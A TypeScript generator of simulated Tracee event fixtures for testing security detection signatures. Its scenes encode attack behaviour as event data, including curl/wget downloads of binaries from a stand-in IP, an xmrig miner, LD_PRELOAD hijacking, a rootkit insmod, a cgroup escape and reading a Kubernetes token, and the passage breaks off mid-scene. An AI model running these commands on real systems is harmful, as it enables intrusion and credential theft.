/**
 * Generates the event streams in tests/fixtures/events/: Tracee JSON events,
 * one per line, as a sensor with argument parsing and exec environments on
 * would print them, for the built-in signatures' engine-level tests.
 *
 * Each stream is written out as a sequence of small scenes (a process forks,
 * executes, opens, connects...), so that context fields, entity ids, pids,
 * timestamps and arguments stay consistent. After changing a scene, run
 *
 * ```sh
 * deno run --allow-write=tests/fixtures/events tools/gen_event_fixtures.ts
 * ```
 *
 * and update tests/fixtures/events/expected.json; tests/signatures/
 * fixtures_test.ts fails while the files differ from what this produces.
 *
 * @module
 */

import type { EventArgument, TraceeEvent } from "../src/event/event.ts";
import { formatEventJson } from "../src/event/json.ts";
import { eventDefinition } from "../src/event/catalog.ts";
import { entityId } from "../src/event/entity_id.ts";

/** Where processes run: the host, or one container. */
interface Place {
  hostName: string;
  cgroupId: bigint;
  mountNamespace: number;
  pidNamespace: number;
  containerId: string;
  container: TraceeEvent["container"];
  kubernetes: TraceeEvent["kubernetes"];
  containerStarted: boolean;
}

interface Process {
  place: Place;
  pid: number;
  hostPid: number;
  ppid: number;
  hostPpid: number;
  uid: number;
  comm: string;
  exe: string;
  start: bigint;
  parentStart: bigint;
}

type ArgSpec = [name: string, type: string, value: unknown];

/** ctime of files installed with the system image. */
const IMAGE_CTIME = 1795420800123456789n;
const ROOT_DEV = 8388609; // 8:1
const OVERLAY_DEV = 46;
const TMPFS_DEV = 24;
const PROC_DEV = 22;
const LD_SO = "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2";

const HOST: Place = {
  hostName: "build-01",
  cgroupId: 9274n,
  mountNamespace: 4026531841,
  pidNamespace: 4026531836,
  containerId: "",
  container: {},
  kubernetes: {},
  containerStarted: false,
};

function containerPlace(
  id: string,
  name: string,
  image: string,
  kubernetes: TraceeEvent["kubernetes"] = {},
): Place {
  return {
    hostName: name.slice(0, 15),
    cgroupId: 12884902913n + BigInt(id.charCodeAt(0)),
    mountNamespace: 4026532801 + id.charCodeAt(1),
    pidNamespace: 4026532804 + id.charCodeAt(1),
    containerId: id,
    container: {
      id,
      name,
      image,
      imageDigest: `sha256:${id.split("").reverse().join("")}`,
    },
    kubernetes,
    containerStarted: true,
  };
}

function basename(path: string): string {
  return path.slice(path.lastIndexOf("/") + 1);
}

function base64(bytes: number[]): string {
  return btoa(String.fromCharCode(...bytes));
}

/** The first 32 bytes of an x86-64 ELF executable. */
const ELF_HEADER = base64([
  0x7f,
  0x45,
  0x4c,
  0x46,
  2,
  1,
  1,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  3,
  0,
  0x3e,
  0,
  1,
  0,
  0,
  0,
  0x60,
  0x10,
  0,
  0,
  0,
  0,
  0,
  0,
]);

function textBytes(text: string): string {
  return base64([...new TextEncoder().encode(text.slice(0, 32))]);
}

/** Options of {@linkcode Stream.exec}. */
interface ExecOptions {
  cmdpath?: string;
  env?: string[];
  stdinType?: string;
  stdinPath?: string;
  inode?: number;
  dev?: number;
  /** Statically linked: no program interpreter, no shared libraries. */
  static?: boolean;
  /** The script interpreter, when `pathname` is a `#!` script. */
  script?: string;
  /** Paths execvp tried first, each a failed call (ENOENT). */
  tries?: string[];
  /** An execveat call, instead of execve of `cmdpath`. */
  call?: { dirfd: number; pathname: string; flags: string };
  /** The call's event is delivered after sched_process_exec (unsorted). */
  unsorted?: boolean;
}

/** Writes one stream of events with a shared clock. */
class Stream {
  #now: bigint;
  #cpu = 0;
  #nextHostPid: number;
  #nextInode = 2100000;
  readonly lines: string[] = [];
  /**
   * Whether exec environments are captured (Tracee's exec-env option);
   * without, envp is a null pointer and sched_process_exec's env empty.
   */
  execEnv = true;

  constructor(start: bigint, firstHostPid: number) {
    this.#now = start;
    this.#nextHostPid = firstHostPid;
  }

  /** Advances the clock by `micros` microseconds. */
  wait(micros: number): void {
    this.#now += BigInt(micros) * 1000n +
      BigInt((this.lines.length * 7919) % 997);
  }

  inode(): number {
    return this.#nextInode += 17;
  }

  /** A process that was running before the stream starts. */
  existing(
    place: Place,
    fields: Pick<
      Process,
      "pid" | "hostPid" | "ppid" | "hostPpid" | "uid" | "comm" | "exe"
    >,
  ): Process {
    return {
      ...fields,
      place,
      start: this.#now - 3_600_000_000_000n -
        BigInt(fields.hostPid) * 1_000_003n,
      parentStart: this.#now - 7_200_000_000_000n,
    };
  }

  emit(
    process: Process,
    eventName: string,
    args: ArgSpec[],
    options: { ret?: number; syscall?: string } = {},
  ): void {
    this.wait(3 + (this.lines.length * 37) % 211);
    this.#cpu = (this.#cpu + 1 + (process.hostPid % 3)) % 4;
    const place = process.place;
    const definition = eventDefinition(eventName);
    const event: TraceeEvent = {
      timestamp: this.#now,
      threadStartTime: process.start,
      processorId: this.#cpu,
      processId: process.pid,
      cgroupId: place.cgroupId,
      threadId: process.pid,
      parentProcessId: process.ppid,
      hostProcessId: process.hostPid,
      hostThreadId: process.hostPid,
      hostParentProcessId: process.hostPpid,
      userId: process.uid,
      mountNamespace: place.mountNamespace,
      pidNamespace: place.pidNamespace,
      processName: process.comm,
      executable: { path: process.exe },
      hostName: place.hostName,
      containerId: place.containerId,
      container: place.container,
      kubernetes: place.kubernetes,
      eventId: definition.id,
      eventName,
      argsNum: args.length,
      returnValue: options.ret ?? 0,
      syscall: options.syscall ??
        (definition.kind === "syscall" ? eventName : ""),
      stackAddresses: null,
      contextFlags: {
        containerStarted: place.containerStarted,
        isCompat: false,
      },
      threadEntityId: entityId(process.hostPid, process.start),
      processEntityId: entityId(process.hostPid, process.start),
      parentEntityId: entityId(process.hostPpid, process.parentStart),
      args: args.map(([name, type, value]): EventArgument => ({
        name,
        type,
        value,
      })),
    };
    this.lines.push(formatEventJson(event));
  }

  /** sched_process_fork from `parent`; returns the child. */
  fork(parent: Process): Process {
    const hostPid = this.#nextHostPid;
    this.#nextHostPid += 1 + (hostPid % 4);
    const inContainer = parent.place.containerId !== "";
    const pid = inContainer ? parent.pid + 1 + (hostPid % 7) : hostPid;
    this.wait(40);
    const child: Process = {
      ...parent,
      pid,
      hostPid,
      ppid: parent.pid,
      hostPpid: parent.hostPid,
      start: this.#now + 1000n,
      parentStart: parent.start,
    };
    this.emit(parent, "sched_process_fork", [
      ["parent_tid", "int", parent.hostPid],
      ["parent_ns_tid", "int", parent.pid],
      ["parent_pid", "int", parent.hostPid],
      ["parent_ns_pid", "int", parent.pid],
      ["parent_start_time", "unsigned long", parent.start],
      ["child_tid", "int", child.hostPid],
      ["child_ns_tid", "int", child.pid],
      ["child_pid", "int", child.hostPid],
      ["child_ns_pid", "int", child.pid],
      ["start_time", "unsigned long", child.start],
      ["parent_process_tid", "int", parent.hostPid],
      ["parent_process_ns_tid", "int", parent.pid],
      ["parent_process_pid", "int", parent.hostPid],
      ["parent_process_ns_pid", "int", parent.pid],
      ["parent_process_start_time", "unsigned long", parent.start],
      ["leader_tid", "int", child.hostPid],
      ["leader_ns_tid", "int", child.pid],
      ["leader_pid", "int", child.hostPid],
      ["leader_ns_pid", "int", child.pid],
      ["leader_start_time", "unsigned long", child.start],
    ], { syscall: "clone" });
    return child;
  }

  /**
   * execve of `pathname` by `process`: the syscall, the LSM checks (for a
   * script with an absolute `cmdpath`, the script's, then the
   * interpreter's), the sched_process_exec event, and the loader's first
   * opens.
   */
  exec(
    process: Process,
    pathname: string,
    argv: string[],
    options: ExecOptions = {},
  ): void {
    const cmdpath = options.cmdpath ?? pathname;
    const env = options.env ?? [];
    const dev = options.dev ??
      (process.place.containerId === "" ? ROOT_DEV : OVERLAY_DEV);
    const inode = options.inode ?? this.inode();
    const ctime = IMAGE_CTIME + BigInt(inode);
    const binary = options.script ?? pathname;
    const envp = this.execEnv ? env : "0x0";
    const execve = (path: string, ret?: number) =>
      this.emit(process, "execve", [
        ["pathname", "const char*", path],
        ["argv", "const char*const*", argv],
        ["envp", "const char*const*", envp],
      ], ret === undefined ? {} : { ret });
    for (const tried of options.tries ?? []) {
      execve(tried);
      execve(tried, -2);
    }
    const callLine = this.lines.length;
    const call = options.call;
    if (call) {
      this.emit(process, "execveat", [
        ["dirfd", "int", call.dirfd],
        ["pathname", "const char*", call.pathname],
        ["argv", "const char*const*", argv],
        ["envp", "const char*const*", envp],
        ["flags", "string", call.flags],
      ]);
    } else {
      execve(cmdpath);
    }
    const syscall = call ? "execveat" : "execve";
    const bprm = (path: string, inode: number) =>
      this.emit(process, "security_bprm_check", [
        ["pathname", "const char*", path],
        ["dev", "dev_t", dev],
        ["inode", "unsigned long", inode],
        ["argv", "const char*const*", argv],
        ["envp", "const char*const*", envp],
      ], { syscall });
    if (options.script && cmdpath.startsWith("/")) bprm(cmdpath, this.inode());
    bprm(binary, inode);
    this.open(process, binary, "O_RDONLY|O_LARGEFILE", {
      syscall,
      raw: cmdpath,
      dev,
      inode,
    });
    const prevComm = process.comm;
    process.comm = basename(cmdpath).slice(0, 15);
    process.exe = binary;
    const interpreter = options.static ? "" : LD_SO;
    this.emit(process, "sched_process_exec", [
      ["cmdpath", "const char*", cmdpath],
      ["pathname", "const char*", binary],
      ["dev", "dev_t", dev],
      ["inode", "unsigned long", inode],
      ["ctime", "unsigned long", ctime],
      ["inode_mode", "umode_t", 33261],
      ["interpreter_pathname", "const char*", interpreter],
      ["interpreter_dev", "dev_t", interpreter ? dev : 0],
      ["interpreter_inode", "unsigned long", interpreter ? 1050020 : 0],
      [
        "interpreter_ctime",
        "unsigned long",
        interpreter ? IMAGE_CTIME : 0,
      ],
      ["argv", "const char**", argv],
      ["interp", "const char*", options.script ?? cmdpath],
      ["stdin_type", "string", options.stdinType ?? "S_IFCHR"],
      ["stdin_path", "char*", options.stdinPath ?? "/dev/pts/0"],
      ["invoked_from_kernel", "int", 0],
      ["prev_comm", "const char*", prevComm],
      ["env", "const char**", this.execEnv ? env : []],
    ], { syscall });
    if (options.unsorted) this.lines.push(...this.lines.splice(callLine, 1));
    if (interpreter) {
      this.open(process, "/etc/ld.so.cache", "O_RDONLY|O_LARGEFILE|O_CLOEXEC");
      this.open(
        process,
        "/usr/lib/x86_64-linux-gnu/libc.so.6",
        "O_RDONLY|O_LARGEFILE|O_CLOEXEC",
      );
    }
  }

  /** sched_process_exit of the whole process. */
  exit(process: Process, code = 0): void {
    this.emit(process, "sched_process_exit", [
      ["exit_code", "long", code * 256],
      ["process_group_exit", "bool", true],
    ], { syscall: "exit_group" });
  }

  /** fork, exec and exit of a short-lived child. */
  run(
    parent: Process,
    pathname: string,
    argv: string[],
    during: (child: Process) => void = () => {},
    options: ExecOptions = {},
  ): Process {
    const child = this.fork(parent);
    this.exec(child, pathname, argv, options);
    during(child);
    this.exit(child);
    return child;
  }

  /** security_file_open (and nothing else: the syscall event is not kept). */
  open(
    process: Process,
    pathname: string,
    flags: string,
    options: { syscall?: string; raw?: string; dev?: number; inode?: number } =
      {},
  ): void {
    const dev = options.dev ??
      (pathname.startsWith("/proc/")
        ? PROC_DEV
        : pathname.startsWith("/dev/shm/")
        ? TMPFS_DEV
        : process.place.containerId === ""
        ? ROOT_DEV
        : OVERLAY_DEV);
    const inode = options.inode ?? this.inode();
    this.emit(process, "security_file_open", [
      ["pathname", "const char*", pathname],
      ["flags", "string", flags],
      ["dev", "dev_t", dev],
      ["inode", "unsigned long", inode],
      ["ctime", "unsigned long", IMAGE_CTIME + BigInt(inode) * 1000n],
      ["syscall_pathname", "const char*", options.raw ?? pathname],
    ], { syscall: options.syscall ?? "openat" });
  }

  /** A regular file written from offset 0 (magic_write). */
  write(
    process: Process,
    pathname: string,
    bytes: string,
    size: number,
    inode: number,
  ): void {
    this.emit(process, "magic_write", [
      ["pathname", "const char*", pathname],
      ["bytes", "bytes", bytes],
      [
        "dev",
        "dev_t",
        process.place.containerId === "" ? ROOT_DEV : OVERLAY_DEV,
      ],
      ["inode", "unsigned long", inode],
    ], { ret: size, syscall: "write" });
  }

  /** socket, connect and the LSM connect check, on descriptor `fd`. */
  connect(process: Process, fd: number, address: string, port: number): void {
    const v6 = address.includes(":");
    const sockaddr = v6
      ? {
        sa_family: "AF_INET6",
        sin6_addr: address,
        sin6_flowinfo: "0",
        sin6_port: String(port),
        sin6_scopeid: "0",
      }
      : { sa_family: "AF_INET", sin_addr: address, sin_port: String(port) };
    this.emit(process, "socket", [
      ["domain", "string", v6 ? "AF_INET6" : "AF_INET"],
      ["type", "string", "SOCK_STREAM|SOCK_CLOEXEC"],
      ["protocol", "int", 6],
    ], { ret: fd });
    this.emit(process, "security_socket_connect", [
      ["sockfd", "int", fd],
      ["type", "string", "SOCK_STREAM"],
      ["remote_addr", "struct sockaddr*", sockaddr],
    ], { syscall: "connect" });
    this.emit(process, "connect", [
      ["sockfd", "int", fd],
      ["addr", "struct sockaddr*", sockaddr],
      ["addrlen", "int", v6 ? 28 : 16],
    ]);
  }

  dup2(process: Process, oldfd: number, newfd: number): void {
    this.emit(process, "dup2", [["oldfd", "int", oldfd], [
      "newfd",
      "int",
      newfd,
    ]], {
      ret: newfd,
    });
  }

  close(process: Process, fd: number): void {
    this.emit(process, "close", [["fd", "int", fd]]);
  }

  unlinkat(process: Process, pathname: string): void {
    this.emit(process, "unlinkat", [
      ["dirfd", "int", -100],
      ["pathname", "const char*", pathname],
      ["flags", "int", 0],
    ]);
  }
}

/** The first timestamp of every stream: 2026-11-27T18:00:00Z. */
const EPOCH = 1795802400000000000n;

function stream(
  index: number,
  scene: (s: Stream) => void,
): string[] {
  const s = new Stream(
    EPOCH + BigInt(index) * 60_000_000_000n,
    40000 + index * 500,
  );
  scene(s);
  return s.lines;
}

/** An interactive root shell on the host, under sshd. */
function hostShell(s: Stream): Process {
  const sshd = s.existing(HOST, {
    pid: 1204,
    hostPid: 1204,
    ppid: 1,
    hostPpid: 1,
    uid: 0,
    comm: "sshd-session",
    exe: "/usr/lib/openssh/sshd-session",
  });
  const shell = s.fork(sshd);
  s.exec(shell, "/usr/bin/bash", ["-bash"], {
    env: [
      "SHELL=/bin/bash",
      "HOME=/root",
      "LOGNAME=root",
      "TERM=xterm-256color",
    ],
  });
  return shell;
}

const WEB_CONTAINER = containerPlace(
  "4f1d8a52c0b3e9d7a6f5e4d3c2b1a09f8e7d6c5b4a3928170f6e5d4c3b2a1908",
  "shop-web",
  "docker.io/library/nginx:1.27",
);

const POD_CONTAINER = containerPlace(
  "c3a1f0e9d8c7b6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a1",
  "k8s_api_orders-7d9f8c6b5-x2kq4_shop",
  "registry.example.com/shop/orders:2.4.1",
  {
    podName: "orders-7d9f8c6b5-x2kq4",
    podNamespace: "shop",
    podUID: "5e0c3d42-8f61-4b8e-9a43-2f1c9e7d6b50",
  },
);

/** A shell inside a running container, started with `docker exec`. */
function containerShell(s: Stream, place: Place): Process {
  const init = s.existing(place, {
    pid: 1,
    hostPid: 31877,
    ppid: 0,
    hostPpid: 31852,
    uid: 0,
    comm: "containerd-shim",
    exe: "/usr/bin/containerd-shim-runc-v2",
  });
  const shell = s.fork(init);
  s.exec(shell, "/bin/sh", ["sh"], {
    env: [
      "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
      "HOSTNAME=" + place.hostName,
    ],
  });
  return shell;
}

const SCENES: Record<string, (s: Stream) => void> = {
  "anti_debugging.jsonl"(s) {
    const shell = hostShell(s);
    // gdb starting its inferior: the forked child asks to be traced.
    const gdb = s.fork(shell);
    s.exec(gdb, "/usr/bin/gdb", ["gdb", "-q", "./server"]);
    const inferior = s.fork(gdb);
    s.emit(inferior, "ptrace", [
      ["request", "string", "PTRACE_TRACEME"],
      ["pid", "pid_t", 0],
      ["addr", "void*", "0x0"],
      ["data", "void*", "0x0"],
    ]);
    s.exec(inferior, "/root/server", ["/root/server"]);
    s.exit(inferior, 0);
    s.exit(gdb);
    // A packed binary that calls ptrace(PTRACE_TRACEME) on itself.
    s.run(shell, "/root/invoice", ["./invoice"], (p) => {
      s.emit(p, "ptrace", [
        ["request", "string", "PTRACE_TRACEME"],
        ["pid", "pid_t", 0],
        ["addr", "void*", "0x0"],
        ["data", "void*", "0x0"],
      ], { ret: 0 });
    }, { cmdpath: "./invoice", static: true });
  },

  "code_injection_ptrace.jsonl"(s) {
    const shell = hostShell(s);
    s.run(shell, "/tmp/inj", ["./inj", "1532"], (p) => {
      const request = (name: string, addr: string, data: string, ret = 0) =>
        s.emit(p, "ptrace", [
          ["request", "string", name],
          ["pid", "pid_t", 1532],
          ["addr", "void*", addr],
          ["data", "void*", data],
        ], { ret });
      request("PTRACE_ATTACH", "0x0", "0x0");
      request("PTRACE_GETREGS", "0x0", "0x7ffc3e21a0d0");
      request("PTRACE_PEEKTEXT", "0x7f2b1c0a4000", "0x0", 0);
      request("PTRACE_POKETEXT", "0x7f2b1c0a4000", "0x50f0000003cc0c7");
      request("PTRACE_SETREGS", "0x0", "0x7ffc3e21a0d0");
      request("PTRACE_DETACH", "0x0", "0x0");
    }, { cmdpath: "./inj" });
  },

  "code_injection_proc_mem.jsonl"(s) {
    const shell = hostShell(s);
    s.run(
      shell,
      "/usr/bin/python3.11",
      ["python3", "inject.py", "1532"],
      (p) => {
        s.open(p, "/root/inject.py", "O_RDONLY|O_LARGEFILE|O_CLOEXEC", {
          raw: "inject.py",
        });
        s.open(p, "/proc/1532/maps", "O_RDONLY|O_LARGEFILE|O_CLOEXEC");
        s.open(p, "/proc/1532/mem", "O_RDWR|O_LARGEFILE|O_CLOEXEC");
        // Its own memory is not someone else's.
        s.open(p, `/proc/${p.pid}/mem`, "O_RDWR|O_LARGEFILE|O_CLOEXEC", {
          raw: "/proc/self/mem",
        });
      },
      { cmdpath: "/usr/bin/python3" },
    );
  },

  "code_injection_vm_writev.jsonl"(s) {
    const shell = hostShell(s);
    s.run(shell, "/tmp/.cache/vmw", ["./vmw", "1532"], (p) => {
      s.emit(p, "process_vm_writev", [
        ["pid", "pid_t", 1532],
        ["local_iov", "const struct iovec*", "0x7ffd9a1c4e40"],
        ["liovcnt", "unsigned long", 1],
        ["remote_iov", "const struct iovec*", "0x7ffd9a1c4e50"],
        ["riovcnt", "unsigned long", 1],
        ["flags", "unsigned long", 0],
      ], { ret: 4096 });
    }, { cmdpath: "./vmw", static: true });
  },

  "dynamic_code_loading.jsonl"(s) {
    const shell = hostShell(s);
    s.run(shell, "/root/stage2", ["./stage2"], (p) => {
      s.emit(p, "mprotect", [
        ["addr", "void*", "0x7f8e4c000000"],
        ["len", "size_t", 65536],
        ["prot", "string", "PROT_READ|PROT_EXEC"],
      ]);
      s.emit(p, "mem_prot_alert", [
        ["alert", "string", "Protection changed from W to E!"],
        ["addr", "void*", "0x7f8e4c000000"],
        ["len", "size_t", 65536],
        ["prot", "string", "PROT_READ|PROT_EXEC"],
        ["prev_prot", "string", "PROT_READ|PROT_WRITE"],
        ["pathname", "const char*", ""],
        ["dev", "dev_t", 0],
        ["inode", "unsigned long", 0],
        ["ctime", "u64", 0],
      ], { syscall: "mprotect" });
    }, { cmdpath: "./stage2" });
  },

  "fileless_memfd.jsonl"(s) {
    const shell = hostShell(s);
    const python = s.fork(shell);
    s.exec(python, "/usr/bin/python3.11", [
      "python3",
      "-c",
      "import os,urllib.request...",
    ], {
      cmdpath: "/usr/bin/python3",
    });
    s.connect(python, 3, "198.51.100.23", 443);
    s.emit(python, "memfd_create", [
      ["name", "const char*", "kworker"],
      ["flags", "unsigned int", 0],
    ], { ret: 4 });
    s.write(python, "memfd:kworker", ELF_HEADER, 912384, 1029);
    s.emit(python, "execveat", [
      ["dirfd", "int", 4],
      ["pathname", "const char*", ""],
      ["argv", "const char*const*", ["[kworker/0:1]"]],
      ["envp", "const char*const*", []],
      ["flags", "string", "AT_EMPTY_PATH"],
    ]);
    s.emit(python, "security_bprm_check", [
      ["pathname", "const char*", "memfd:kworker"],
      ["dev", "dev_t", 1],
      ["inode", "unsigned long", 1029],
      ["argv", "const char*const*", ["[kworker/0:1]"]],
      ["envp", "const char*const*", []],
    ], { syscall: "execveat" });
    const prev = python.comm;
    python.comm = "4";
    python.exe = "memfd:kworker";
    s.emit(python, "sched_process_exec", [
      ["cmdpath", "const char*", "/dev/fd/4"],
      ["pathname", "const char*", "memfd:kworker"],
      ["dev", "dev_t", 1],
      ["inode", "unsigned long", 1029],
      ["ctime", "unsigned long", 1795802460000000000n],
      ["inode_mode", "umode_t", 33279],
      ["interpreter_pathname", "const char*", ""],
      ["interpreter_dev", "dev_t", 0],
      ["interpreter_inode", "unsigned long", 0],
      ["interpreter_ctime", "unsigned long", 0],
      ["argv", "const char**", ["[kworker/0:1]"]],
      ["interp", "const char*", "/dev/fd/4"],
      ["stdin_type", "string", "S_IFCHR"],
      ["stdin_path", "char*", "/dev/null"],
      ["invoked_from_kernel", "int", 0],
      ["prev_comm", "const char*", prev],
      ["env", "const char**", []],
    ], { syscall: "execveat" });
    s.exit(python);
  },

  "fileless_dev_shm.jsonl"(s) {
    const shell = hostShell(s);
    s.run(shell, "/usr/bin/curl", [
      "curl",
      "-so",
      "/dev/shm/kdevtmpfs",
      "http://198.51.100.23/k",
    ], (p) => {
      s.connect(p, 5, "198.51.100.23", 80);
      s.open(p, "/dev/shm/kdevtmpfs", "O_WRONLY|O_CREAT|O_TRUNC|O_LARGEFILE");
      s.write(p, "/dev/shm/kdevtmpfs", ELF_HEADER, 16384, 4411);
    });
    s.run(shell, "/usr/bin/chmod", ["chmod", "+x", "/dev/shm/kdevtmpfs"]);
    s.run(shell, "/dev/shm/kdevtmpfs", ["/dev/shm/kdevtmpfs"], () => {}, {
      dev: TMPFS_DEV,
      inode: 4411,
      static: true,
    });
  },

  "kernel_module_loading.jsonl"(s) {
    const shell = hostShell(s);
    s.run(shell, "/usr/bin/kmod", ["insmod", "/root/rk.ko"], (p) => {
      s.open(p, "/root/rk.ko", "O_RDONLY|O_LARGEFILE|O_CLOEXEC", {
        raw: "/root/rk.ko",
        inode: 1310991,
      });
      s.emit(p, "security_kernel_read_file", [
        ["pathname", "const char*", "/root/rk.ko"],
        ["dev", "dev_t", ROOT_DEV],
        ["inode", "unsigned long", 1310991],
        ["type", "string", "kernel-module"],
        ["ctime", "unsigned long", 1795802410000000000n],
      ], { syscall: "finit_module" });
      s.emit(p, "finit_module", [
        ["fd", "int", 3],
        ["param_values", "const char*", ""],
        ["flags", "int", 0],
      ]);
    }, { cmdpath: "/usr/sbin/insmod" });
    s.run(shell, "/root/loader", ["./loader"], (p) => {
      s.emit(p, "init_module", [
        ["module_image", "void*", "0x7f1e5a200010"],
        ["len", "unsigned long", 412880],
        ["param_values", "const char*", "hide_pid=1"],
      ]);
    }, { cmdpath: "./loader", static: true });
  },

  "ld_preload_env.jsonl"(s) {
    const shell = hostShell(s);
    s.run(shell, "/usr/bin/curl", [
      "curl",
      "-so",
      "/tmp/.l/libsys.so",
      "http://198.51.100.23/l",
    ], (p) => {
      s.connect(p, 5, "198.51.100.23", 80);
      s.open(p, "/tmp/.l/libsys.so", "O_WRONLY|O_CREAT|O_TRUNC|O_LARGEFILE");
      s.write(p, "/tmp/.l/libsys.so", ELF_HEADER, 16384, 4519);
    });
    s.run(shell, "/usr/sbin/sshd", ["/usr/sbin/sshd", "-p", "2222"], () => {}, {
      env: [
        "SHELL=/bin/bash",
        "LD_PRELOAD=/tmp/.l/libsys.so",
        "HOME=/root",
      ],
    });
  },

  "ld_preload_file.jsonl"(s) {
    const shell = hostShell(s);
    // `echo /usr/lib/libsys.so >> /etc/ld.so.preload`: bash opens it itself.
    s.open(
      shell,
      "/etc/ld.so.preload",
      "O_WRONLY|O_CREAT|O_APPEND|O_LARGEFILE",
    );
    s.run(shell, "/usr/bin/cat", ["cat", "/etc/ld.so.preload"], (p) => {
      s.open(p, "/etc/ld.so.preload", "O_RDONLY|O_LARGEFILE");
    });
  },

  "illegitimate_shell.jsonl"(s) {
    const master = s.existing(HOST, {
      pid: 812,
      hostPid: 812,
      ppid: 1,
      hostPpid: 1,
      uid: 0,
      comm: "nginx",
      exe: "/usr/sbin/nginx",
    });
    const worker = s.existing(HOST, {
      pid: 815,
      hostPid: 815,
      ppid: 812,
      hostPpid: 812,
      uid: 33,
      comm: "nginx",
      exe: "/usr/sbin/nginx",
    });
    s.open(
      worker,
      "/var/www/html/upload/cmd.php",
      "O_RDONLY|O_LARGEFILE|O_NONBLOCK",
    );
    s.run(worker, "/usr/bin/dash", ["sh", "-c", "id; uname -a"], (sh) => {
      s.run(sh, "/usr/bin/id", ["id"]);
      s.run(sh, "/usr/bin/uname", ["uname", "-a"]);
    }, { cmdpath: "/bin/sh", stdinType: "S_IFCHR", stdinPath: "/dev/null" });
    // nginx re-executing itself on upgrade is no shell.
    s.run(master, "/usr/sbin/nginx", ["nginx", "-s", "reload"], () => {}, {
      stdinPath: "/dev/null",
    });
  },

  "cgroup_release_agent.jsonl"(s) {
    const sh = containerShell(s, WEB_CONTAINER);
    s.run(sh, "/bin/mount", [
      "mount",
      "-t",
      "cgroup",
      "-o",
      "rdma",
      "cgroup",
      "/tmp/cgrp",
    ], (p) => {
      s.emit(p, "security_sb_mount", [
        ["dev_name", "const char*", "cgroup"],
        ["path", "const char*", "/tmp/cgrp"],
        ["type", "const char*", "cgroup"],
        ["flags", "unsigned long", 3236757504],
      ], { syscall: "mount" });
      s.emit(p, "mount", [
        ["source", "const char*", "cgroup"],
        ["target", "const char*", "/tmp/cgrp"],
        ["filesystemtype", "const char*", "cgroup"],
        ["mountflags", "unsigned long", 3236757504],
        ["data", "const void*", "0x55f1c9e2a2c0"],
      ]);
    });
    s.open(
      sh,
      "/tmp/cgrp/x/notify_on_release",
      "O_WRONLY|O_CREAT|O_TRUNC|O_LARGEFILE",
      {
        dev: 63,
      },
    );
    s.open(
      sh,
      "/tmp/cgrp/release_agent",
      "O_WRONLY|O_CREAT|O_TRUNC|O_LARGEFILE",
      {
        dev: 63,
      },
    );
    s.open(sh, "/tmp/cgrp/cgroup.procs", "O_RDONLY|O_LARGEFILE", { dev: 63 });
  },

  "disk_mount.jsonl"(s) {
    const runc = s.existing(
      { ...WEB_CONTAINER, containerStarted: false },
      {
        pid: 1,
        hostPid: 31877,
        ppid: 0,
        hostPpid: 31852,
        uid: 0,
        comm: "runc:[2:INIT]",
        exe: "/usr/bin/runc",
      },
    );
    // Container set-up by runc: not yet started, not selected.
    s.emit(runc, "security_sb_mount", [
      ["dev_name", "const char*", "/dev/mapper/vg0-docker"],
      ["path", "const char*", "/var/lib/docker/overlay2/l"],
      ["type", "const char*", ""],
      ["flags", "unsigned long", 4096],
    ], { syscall: "mount" });
    const sh = containerShell(s, WEB_CONTAINER);
    s.run(sh, "/bin/mount", ["mount", "/dev/sda1", "/mnt"], (p) => {
      s.emit(p, "security_sb_mount", [
        ["dev_name", "const char*", "/dev/sda1"],
        ["path", "const char*", "/mnt"],
        ["type", "const char*", "ext4"],
        ["flags", "unsigned long", 3236757504],
      ], { syscall: "mount" });
    });
    s.run(sh, "/bin/ls", ["ls", "/mnt/root"]);
  },

  "dropped_executable.jsonl"(s) {
    const sh = containerShell(s, WEB_CONTAINER);
    s.run(sh, "/usr/bin/curl", [
      "curl",
      "-so",
      "/tmp/xmrig",
      "http://198.51.100.23/x",
    ], (p) => {
      s.connect(p, 5, "198.51.100.23", 80);
      s.open(p, "/tmp/xmrig", "O_WRONLY|O_CREAT|O_TRUNC|O_LARGEFILE", {
        inode: 5233,
      });
      s.write(p, "/tmp/xmrig", ELF_HEADER, 16384, 5233);
    });
    // A script is not an executable file for VGL-10 and VGL-18.
    s.write(
      sh,
      "/tmp/start.sh",
      textBytes("#!/bin/sh\n/tmp/xmrig -B\n"),
      22,
      5240,
    );
    s.run(sh, "/bin/chmod", ["chmod", "+x", "/tmp/xmrig"]);
    s.run(
      sh,
      "/tmp/xmrig",
      ["/tmp/xmrig", "-o", "pool.example.net:3333"],
      () => {},
      {
        inode: 5233,
        static: true,
      },
    );
    // Running it again is not a new drop.
    s.run(sh, "/tmp/xmrig", ["/tmp/xmrig", "--version"], () => {}, {
      inode: 5233,
      static: true,
    });
  },

  "dropped_executable_renamed.jsonl"(s) {
    const sh = containerShell(s, POD_CONTAINER);
    s.run(sh, "/usr/bin/wget", [
      "wget",
      "-qO",
      "/tmp/.t",
      "http://198.51.100.23/a",
    ], (p) => {
      s.connect(p, 3, "198.51.100.23", 80);
      s.open(p, "/tmp/.t", "O_WRONLY|O_CREAT|O_TRUNC|O_LARGEFILE", {
        inode: 7301,
      });
      s.write(p, "/tmp/.t", ELF_HEADER, 8192, 7301);
    });
    s.run(
      sh,
      "/bin/mv",
      ["mv", "/tmp/.t", "/usr/local/bin/kubelet-helper"],
      (p) => {
        s.emit(p, "renameat2", [
          ["olddirfd", "int", -100],
          ["oldpath", "const char*", "/tmp/.t"],
          ["newdirfd", "int", -100],
          ["newpath", "const char*", "/usr/local/bin/kubelet-helper"],
          ["flags", "unsigned int", 0],
        ]);
      },
    );
    s.run(sh, "/usr/local/bin/kubelet-helper", ["kubelet-helper"], () => {}, {
      inode: 7301,
      static: true,
    });
  },

  "k8s_credentials_access.jsonl"(s) {
    const token =
      "/run/secrets/kubernetes.io/serviceaccount/..2026_11_27_17_02_11.3318419023/token";
    const proxy = s.existing(POD_CONTAINER, {
      pid: 1,
      hostPid: 30112,
      ppid: 0,
      hostPpid: 30090,
      uid: 0,
      comm: "kube-proxy",
      exe: "/usr/local/bin/kube-proxy",
    });
    s.open(proxy, token, "O_RDONLY|O_CLOEXEC|O_LARGEFILE", {
      raw: "/var/run/secrets/kubernetes.io/serviceaccount/token",
    });
    const sh = containerShell(s, POD_CONTAINER);
    s.run(sh, "/bin/cat", [
      "cat",
      "/var/run/secrets/kubernetes.io/serviceaccount/token",
